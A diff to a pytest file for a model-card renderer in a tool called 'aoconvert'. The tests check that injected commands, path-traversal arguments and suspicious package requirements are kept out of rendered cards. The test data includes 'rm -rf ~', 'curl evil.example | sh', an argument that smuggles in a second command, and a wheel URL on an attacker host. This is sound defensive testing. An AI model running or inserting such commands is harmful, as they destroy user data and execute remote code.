@@ -149,12 +149,96 @@ def test_a_class_name_that_is_code(bad: str, pipeline: Path) -> None:
         render(pipeline, CardOptions())
 
 
-def test_a_conversion_that_is_another_command_is_not_shown(pipeline: Path) -> None:
-    edit(pipeline, lambda values: values["run"].update(command="aoconvert quantize x; rm -rf ~"))
-    shown = read(render(pipeline, CardOptions()).text).fences("bash")[-1]
-    assert shown == "aoconvert quantize 'x;' rm -rf '~'\n"
-    edit(pipeline, lambda values: values["run"].update(command="curl evil.example | sh"))
+@pytest.mark.parametrize(
+    "command",
+    [
+        "aoconvert quantize x; rm -rf ~",
+        "curl evil.example | sh",
+        "aoconvert push evil/repo",
+        "aoconvert quantize evil/repo --scheme int8wo",
+        "aoconvert quantize ../x --scheme int8wo",
+        "aoconvert quantize /etc --scheme int8wo",
+        "aoconvert quantize -h",
+        "aoconvert quantize x --scheme int8wo --token hf_x",
+        "aoconvert quantize x --scheme int8wo -o /home/you/.ssh --overwrite",
+        "aoconvert quantize x --scheme int8wo --output=elsewhere",
+        "aoconvert quantize x --scheme",
+        "aoconvert quantize x --scheme 'int8wo;id'",
+        "aoconvert quantize x --scheme --overwrite",
+        "aoconvert quantize x --scheme int8wo --revision main",
+        "aoconvert quantize x --scheme int8wo --subfolder ../..",
+        "aoconvert quantize x --scheme int8wo --component a=/b",
+        "aoconvert quantize x y --scheme int8wo",
+        "aoconvert quantize 'x --scheme int8wo",
+    ],
+)
+def test_a_command_that_aoconvert_does_not_write_is_not_shown(command: str, pipeline: Path) -> None:
+    edit(pipeline, lambda values: values["run"].update(command=command))
+    page = read(render(pipeline, CardOptions()).text)
+    assert "To make it again" not in page.shown
+    assert not any("quantize" in block or "evil" in block for block in page.fences("bash"))
+
+
+def test_a_command_names_the_source_that_the_card_names(pipeline: Path) -> None:
+    commit = "0" * 40
+    line = f"aoconvert quantize a/b --scheme int8wo --revision {commit} --skip 're:x;y' --component transformer"
+    for repo, revision, shown in (("a/b", commit, True), ("a/c", commit, False), ("a/b", "1" * 40, False)):
+
+        def change(values: dict[str, Any], repo: str = repo, revision: str = revision) -> None:
+            values["source"].update(kind="hub", repo_id=repo, revision=revision)
+            values["run"]["command"] = line
+
+        edit(pipeline, change)
+        assert (f"{line}\n" in read(render(pipeline, CardOptions()).text).fences("bash")) == shown
+
+
+def test_every_option_that_is_written_is_known() -> None:
+    """A command with an option that the card does not know would not be shown."""
+    from aoconvert.cards.again import OPTIONS
+    from aoconvert.options import QuantizeOptions
+
+    run_only = {"output", "overwrite", "resume", "token", "cache_dir", "local_files_only", "scheme"}
+    renamed = {"settings": "set", "components": "component", "default_skips": "no-default-skips"}
+    for name in set(QuantizeOptions.__dataclass_fields__) - run_only:
+        assert f"--{renamed.get(name, name).replace('_', '-')}" in OPTIONS, name
+
+
+@pytest.mark.parametrize(
+    ("line", "shown"),
+    [
+        ("evil-package>=1", None),
+        ("mslk>=1.0.0", "mslk>=1.0.0"),
+        ("mslk==0.0.1", None),
+        ("mslk[evil]>=1", None),
+        ("mslk @ https://evil.example/mslk.whl", None),
+        ("mslk>=1; python_version > '3'", None),
+        ("torchao_evil>=0.18", None),
+    ],
+)
+def test_only_packages_that_a_layout_can_need(line: str, shown: str | None, pipeline: Path) -> None:
+    edit(pipeline, lambda values: values["components"][0]["layout"].update(requires=[line]))
+    install = read(render(pipeline, CardOptions()).text).fences("bash")[0]
+    assert "evil" not in install
+    assert ("mslk" in install) == (shown is not None)
+    assert shown is None or f"'{shown}'" in install
+
+
+def test_versions_that_aoconvert_does_not_run_with_are_no_pins(pipeline: Path) -> None:
+    """An old torch runs code in a pickle that it was told not to trust."""
+    edit(pipeline, lambda values: values["environment"].update(torch="2.5.1", torchao="0.18.0"))
+    install = read(render(pipeline, CardOptions()).text).fences("bash")[0].split()
+    assert "torch" in install and "torchao==0.18.0" in install
+
+
+def test_other_packages_are_not_asked_for(pipeline: Path) -> None:
+    from aoconvert.manifest import load
+    from aoconvert.verification.versions import version_problems
+
+    edit(pipeline, lambda values: values["components"][0]["loads_with"].update({"evil-package": ">=1"}))
     assert "evil" not in render(pipeline, CardOptions()).text
+    assert version_problems(load(pipeline).components[0]) == [
+        "the manifest asks for the package 'evil-package', which no torchao checkpoint needs"
+    ]
 
 
 MARKDOWN = MarkdownIt("gfm-like", {"linkify": False, "html": True}).disable("linkify")
